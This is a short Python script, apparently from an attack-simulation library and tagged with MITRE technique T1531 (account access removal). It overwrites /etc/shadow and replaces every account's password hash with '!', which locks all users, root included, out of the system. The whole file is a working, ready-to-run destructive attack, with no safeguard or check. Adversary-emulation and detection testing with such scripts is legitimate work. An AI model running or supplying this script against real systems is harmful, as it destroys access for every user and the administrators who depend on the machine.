#!/usr/bin/env python3
# title: Python takes all passwords out of the file
# technique: T1531
# needs: python3

lines = open("/etc/shadow").read().split("\n")
open("/etc/shadow", "w").write("\n".join(":".join([line.split(":")[0], "!"] + line.split(":")[2:]) if ":" in line else line for line in lines))
